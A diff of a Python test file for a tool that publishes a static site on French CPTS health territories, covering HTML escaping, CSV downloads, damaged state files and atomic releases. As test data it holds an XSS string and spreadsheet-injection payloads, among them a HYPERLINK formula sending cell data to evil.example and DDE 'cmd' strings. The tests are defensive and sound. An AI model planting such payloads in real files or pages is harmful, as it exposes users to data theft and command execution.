@@ -1,19 +1,25 @@
-"""The static site: content, escaping, changes between runs, lock, and atomicity when a run fails
-or is killed. The published pages are also loaded in headless Chromium from 127.0.0.1."""
+"""The static site: content, escaping, formula-safe downloads, changes between runs and a damaged
+state, lock, targets refused before building, and atomicity when a run fails or is killed (the
+first migration from a plain directory included). The published pages are also loaded in
+headless Chromium from 127.0.0.1. The tests that publish are marked slow."""
 
 from __future__ import annotations
 
+import csv
+import errno
 import functools
 import hashlib
 import html
 import json
 import os
 import re
+import shutil
 import signal
 import subprocess
 import sys
 import threading
 import time
+import traceback
 import xml.etree.ElementTree as ET
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -26,13 +32,20 @@ from cpts_geo import compare, coverage_timeline, load_communes, read_territories
 from cpts_geo.cli import main
 from cpts_geo.errors import CptsGeoWarning, PublishError, TerritoryError
 from cpts_geo.io import readers
+from cpts_geo.publishing import release as release_module
 from cpts_geo.publishing import site as site_module
 from cpts_geo.publishing.release import lock as _lock
 from cpts_geo.publishing.site import publish
 
-pytestmark = pytest.mark.slow  # every test here publishes a site
-
 HOSTILE = "<img src=x onerror=alert(1)>"
+#: CPTS names that a spreadsheet would run as formulas if the CSV downloads held them raw.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquer")',
+    "=cmd|' /C calc'!A0",
+    "+33 4 77 00 00 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 CHROMIUM = Path("/usr/bin/chromium")
 
 
@@ -55,13 +68,16 @@ def _tree_digest(root: Path) -> dict[str, str]:
 
 @pytest.fixture(scope="module")
 def site(tmp_path_factory):
-    """One publication of the seeds plus a hostile CPTS (two Isère communes)."""
+    """One publication of the seeds plus hostile CPTS (HTML, spreadsheet formulas) on two Isère
+    communes."""
     tmp = tmp_path_factory.mktemp("publish")
-    terr = _territories(tmp, [(HOSTILE, "38185", "pré-projet"), (HOSTILE, "38151", "pré-projet")])
+    terr = _territories(tmp, [(name, code, "pré-projet") for name in (HOSTILE, *FORMULAS)
+                              for code in ("38185", "38151")])
     result = publish(terr, tmp / "site", progress=False)
     return tmp, result
 
 
+@pytest.mark.slow
 def test_site_layout_and_figures(site):
     tmp, result = site
     out = tmp / "site"
@@ -93,6 +109,7 @@ def test_site_layout_and_figures(site):
     assert result.timings.keys() >= {"read_territories", "coverage", "departements", "swap"}
 
 
+@pytest.mark.slow
 def test_pages_link_each_departement_and_sort(site):
     tmp, _ = site
     index = (tmp / "site" / "index.html").read_text("utf-8")
@@ -135,8 +152,9 @@ def test_departement_pages_show_the_timeline_and_the_funding(site):
     isere = (out / "departements" / "38" / "index.html").read_text("utf-8")
     assert "CPTS sans date de statut, non comptées au fil du temps" in isere
     assert html.escape(HOSTILE) in isere.split("CPTS sans date de statut")[1][:300]
-    assert json.loads((out / "departements" / "38" / "summary.json").read_text("utf-8"))[
-        "undated_cpts"] == [HOSTILE]
+    undated = json.loads((out / "departements" / "38" / "summary.json").read_text("utf-8"))[
+        "undated_cpts"]
+    assert sorted(undated) == sorted([HOSTILE, *FORMULAS])
     # a funding column on the CPTS tables, with the sources of its amounts
     index = (out / "index.html").read_text("utf-8")
     for text in (index, page):
@@ -151,6 +169,7 @@ def test_departement_pages_show_the_timeline_and_the_funding(site):
     assert cpts.loc["Vénissieux", "rules_version"] == "aci-2019"
 
 
+@pytest.mark.slow
 def test_hostile_names_are_text_everywhere(site):
     tmp, _ = site
     for page in ("index.html", "departements/38/index.html"):
@@ -161,6 +180,7 @@ def test_hostile_names_are_text_everywhere(site):
     assert "<img src=x" not in mapping
 
 
+@pytest.mark.slow
 @pytest.mark.browser
 def test_published_pages_in_headless_chromium(site, tmp_path):
     if not CHROMIUM.exists():
@@ -212,6 +232,7 @@ def test_published_pages_in_headless_chromium(site, tmp_path):
         httpd.server_close()
 
 
+@pytest.mark.slow
 def test_a_second_concurrent_run_is_refused(tmp_path, capsys):
     out = tmp_path / "site"
     with _lock(out):
@@ -222,6 +243,7 @@ def test_a_second_concurrent_run_is_refused(tmp_path, capsys):
     assert not out.exists()
 
 
+@pytest.mark.slow
 def test_a_failed_run_leaves_the_previous_site_intact(site, tmp_path):
     tmp, result = site
     out = tmp / "site"
@@ -235,6 +257,7 @@ def test_a_failed_run_leaves_the_previous_site_intact(site, tmp_path):
     assert not list((tmp / "site.releases").glob(".build-*"))
 
 
+@pytest.mark.slow
 def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
     tmp, result = site
     out = tmp / "site"
@@ -272,11 +295,11 @@ def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
     assert sorted(p.name for p in (out / "departements").iterdir()) == ["42"]
     assert out.resolve() == again.release.resolve()
     assert not list(releases.glob(".build-*"))
-    # its change report compares with the fixture's publication (the hostile CPTS is gone)
+    # its change report compares with the fixture's publication (the hostile CPTS are gone)
     ch = again.changes
     assert ch["first_publication"] is False and ch["vintage_changed"] is False
-    assert [(c["cpts"], c["change"]) for c in ch["cpts"] if c["change"] != "unchanged"] == [
-        (HOSTILE, "dissolved")]
+    assert sorted((c["cpts"], c["change"]) for c in ch["cpts"] if c["change"] != "unchanged") == [
+        (name, "dissolved") for name in sorted([HOSTILE, *FORMULAS])]
     assert {(c["insee"], c["change"]) for c in ch["communes"]} == {
         ("38185", "left"), ("38151", "left")}
     assert [a["area"] for a in ch["areas"]] == ["38"] and ch["areas"][0]["delta"] < 0
@@ -286,3 +309,185 @@ def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
     same = compare(load_communes(["38", "42", "69"]), read_territories(tmp / "territories.csv"),
                    read_territories(SEEDS)).to_dict()
     assert ch["cpts"] == same["cpts"] and ch["communes"] == same["communes"]
+
+
+def _copy_as_plain_site(site_dir: Path, dest: Path) -> Path:
+    """A plain directory holding a published site (as copied by hand or by an older version)."""
+    shutil.copytree(site_dir.resolve(), dest, symlinks=False)
+    return dest
+
+
+def _is_complete(site: Path, departements: list[str]) -> bool:
+    names = ["index.html", "map.html", "summary.json", "state.json", "coverage_departements.csv",
+             "assets/leaflet.js"]
+    names += [f"departements/{d}/{n}" for d in departements
+              for n in ("index.html", "map.html", "summary.json", "cpts.csv")]
+    return all((site / n).is_file() and (site / n).stat().st_size > 0 for n in names)
+
+
+@pytest.mark.slow
+def test_first_publication_over_a_plain_site_with_a_damaged_state(site, tmp_path):
+    """A plain site directory (copied by hand, or by an older version) whose state.json is foreign
+    JSON that used to crash the comparison: switched to a link, kept as the previous release,
+    and the change report starts again with a warning."""
+    tmp, _ = site
+    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
+    (out / "state.json").write_bytes(DAMAGED_STATES["rate-not-object"])
+    before = _tree_digest(out)
+    with pytest.warns(CptsGeoWarning, match=r"cannot be read .*'42' is not a number"):
+        result = publish(SEEDS, out, progress=False, departements="42")
+    assert out.is_symlink() and out.resolve() == result.release.resolve()
+    assert _is_complete(out, ["42"])
+    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
+    assert _tree_digest(legacy) == before  # the old site, untouched, as the previous release
+    assert result.changes == {"first_publication": True}
+    assert "Première publication" in (out / "index.html").read_text("utf-8")
+    assert json.loads((out / "state.json").read_text("utf-8"))["version"] == 1
+
+
+@pytest.mark.slow
+def test_a_first_migration_killed_at_the_switch_leaves_a_complete_site(site, tmp_path):
+    """A real publication, killed (SIGKILL) right after the plain site and the link are exchanged:
+    the moment when the old code left no site at all at --out."""
+    tmp, _ = site
+    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
+    before = _tree_digest(out)
+    pid = os.fork()
+    if pid == 0:  # the child publishes and kills itself at the switch
+        code = 0
+        try:
+            def checkpoint(name: str) -> None:
+                if name == "exchanged":
+                    os.kill(os.getpid(), signal.SIGKILL)
+
+            release_module._checkpoint = checkpoint
+            publish(SEEDS, out, progress=False, departements="42")
+        except BaseException:
+            traceback.print_exc()
+            code = 3
+        finally:
+            os._exit(code)
+    _, status = os.waitpid(pid, 0)
+    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
+    assert out.is_symlink() and _is_complete(out, ["42"])  # the new site, complete
+    (stray,) = [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
+    assert _tree_digest(stray) == before  # the old one waits next to it
+    again = publish(SEEDS, out, progress=False, departements="69")
+    assert out.resolve() == again.release.resolve() and _is_complete(out, ["69"])
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
+    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
+    assert _tree_digest(legacy) == before
+
+
+def _fake_release(tmp_path: Path, state: bytes | None, *, as_dir: bool = False) -> Path:
+    out = tmp_path / "site"
+    release = tmp_path / "site.releases" / "20260101T000000-1"
+    release.mkdir(parents=True)
+    (release / "index.html").write_text("old", encoding="utf-8")
+    if as_dir:
+        (release / "state.json").mkdir()
+    elif state is not None:
+        (release / "state.json").write_bytes(state)
+    os.symlink("site.releases/20260101T000000-1", out)
+    return out
+
+
+VINTAGE = {"cog_year": 2026, "population_year": 2026, "census_year": 2023}
+DAMAGED_STATES = {
+    "truncated": b'{"version": 1, "vintage": {"cog_year": 2026, "popul',
+    "empty": b"",
+    "not-json": b"<html>502 Bad Gateway</html>",
+    "not-utf8": b'{"version": 1, "nom": "\xff\xfe"}',
+    "latin-1": '{"version": 1, "nom": "Hérault"}'.encode("latin-1"),
+    "a-list": b"[1, 2, 3]",
+    "another-tool": b'{"name": "my-site", "version": "2.3.1"}',
+    "version-true": json.dumps({"version": True, "vintage": VINTAGE, "cpts": {},
+                                "rates": {}}).encode(),
+    "future-version": json.dumps({"version": 2, "cpts": {}, "rates": {}}).encode(),
+    "no-vintage": json.dumps({"version": 1, "cpts": {}, "rates": {}}).encode(),
+    # foreign content under the right version: each made diff() or the page crash before
+    "rate-not-object": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
+                                   "rates": {"42": "x"}}).encode(),
+    "rate-text": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
+                             "rates": {"42": {"nom": "Loire", "coverage_rate": "12%"}}}).encode(),
+    "nested-commune": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
+                                  "cpts": {"a": {"cpts": "A", "communes": [["42218"]]}}}).encode(),
+    "name-not-text": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
+                                 "cpts": {"a": {"cpts": {"x": 1}, "communes": []}}}).encode(),
+    "names-list": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {}, "cpts": {},
+                              "names": ["x"]}).encode(),
+    "nan-rate": b'{"version": 1, "vintage": {"cog_year": 2026, "population_year": 2026, '
+                b'"census_year": 2023}, "cpts": {}, "rates": {"42": {"coverage_rate": NaN}}}',
+    "deeply-nested": b"[" * 100_000 + b"]" * 100_000,
+}
+
+
+@pytest.mark.parametrize("state", list(DAMAGED_STATES), ids=list(DAMAGED_STATES))
+def test_a_damaged_state_warns_and_restarts_the_change_report(tmp_path, state):
+    out = _fake_release(tmp_path, DAMAGED_STATES[state])
+    with pytest.warns(CptsGeoWarning, match=r"the state of the previous publication \(.*"
+                      r"state.json\) cannot be read .*the change report starts again"):
+        assert site_module._previous_state(out) is None
+    assert site_module._changes(None, {}) == {"first_publication": True}
+
+
+@pytest.mark.parametrize("kind", ["directory", "missing"])
+def test_a_state_that_is_a_directory_or_missing_warns(tmp_path, kind):
+    out = _fake_release(tmp_path, None, as_dir=kind == "directory")
+    reason = "it is not a file" if kind == "directory" else "it is missing"
+    with pytest.warns(CptsGeoWarning, match=rf"cannot be read \({reason}\)"):
+        assert site_module._previous_state(out) is None
+
+
+def test_no_previous_site_is_a_first_publication_without_warning(tmp_path, recwarn):
+    assert site_module._previous_state(tmp_path / "site") is None
+    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]
+
+
+def test_a_plain_site_directory_is_compared_with_its_state(tmp_path, recwarn):
+    out = tmp_path / "www"
+    out.mkdir()
+    state = {"version": 1, "vintage": VINTAGE, "level": "departement", "names": {},
+             "rates": {"42": {"nom": "Loire", "coverage_rate": 0.12}},
+             "cpts": {"gier": {"cpts": "Vallée du Gier", "status": None, "status_date": None,
+                               "communes": ["42218"], "shares": {}}}}
+    (out / "state.json").write_text(json.dumps(state), encoding="utf-8")
+    assert site_module._previous_state(out) == state
+    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]
+
+
+@pytest.mark.slow
+def test_csv_downloads_hold_no_live_formula(site):
+    _, result = site  # the fixture's release (later tests publish again over its link)
+    cells = []
+    for path in sorted(result.release.rglob("*.csv")):
+        with open(path, encoding="utf-8", newline="") as fh:
+            cells += [(path.name, c) for row in csv.reader(fh) for c in row]
+    live = []
+    for name, cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            try:
+                float(cell)  # a negative number is a number, not a formula
+            except ValueError:
+                live.append((name, cell))
+    assert live == []
+    texts = {c for _, c in cells}
+    for formula in FORMULAS:  # the names are there, as text
+        assert "'" + formula in texts, formula
+    joined = [c for c in texts if "; " in c and FORMULAS[1] in c]  # overlaps: names in one cell
+    assert joined and all(c[0] not in "=+-@" for c in joined)
+
+
+def test_no_symbolic_links_is_refused_before_reading_anything(tmp_path, monkeypatch):
+    def never(*args, **kwargs):
+        raise AssertionError("the territories were read")
+
+    def no_links(*args, **kwargs):
+        raise OSError(errno.EPERM, "Operation not permitted")
+
+    monkeypatch.setattr(site_module, "read_territories", never)
+    monkeypatch.setattr(os, "symlink", no_links)
+    with pytest.raises(PublishError, match=r"has no symbolic links"):
+        publish(SEEDS, tmp_path / "site", progress=False)
+    assert list((tmp_path / "site.releases").iterdir()) == []
+    assert not os.path.lexists(tmp_path / "site")
